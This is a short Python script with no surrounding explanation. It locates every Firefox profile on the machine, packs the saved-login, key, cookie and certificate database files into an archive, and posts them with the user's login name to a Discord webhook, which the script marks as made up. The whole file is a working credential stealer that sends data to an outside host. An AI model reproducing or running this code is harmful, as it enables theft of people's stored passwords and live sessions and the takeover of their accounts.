import configparser
import io
import os
import tarfile

import requests

HOOK = "https://discord.com/api/webhooks/100000000000000000/AAAA-made-up-BBBB"
FILES = ["logins.json", "key4.db", "cookies.sqlite", "cert9.db"]

base = os.path.expanduser("~/.mozilla/firefox")
ini = configparser.ConfigParser()
ini.read(os.path.join(base, "profiles.ini"))
for sec in ini.sections():
    if not sec.startswith("Profile"):
        continue
    path = ini[sec]["Path"]
    if ini[sec].get("IsRelative", "1") == "1":
        path = os.path.join(base, path)
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:xz") as tf:
        for f in FILES:
            full = os.path.join(path, f)
            if os.path.exists(full):
                tf.add(full, arcname=f)
    bio.seek(0)
    requests.post(HOOK, data={"content": os.getlogin()}, files={"file": (sec + ".txz", bio)})
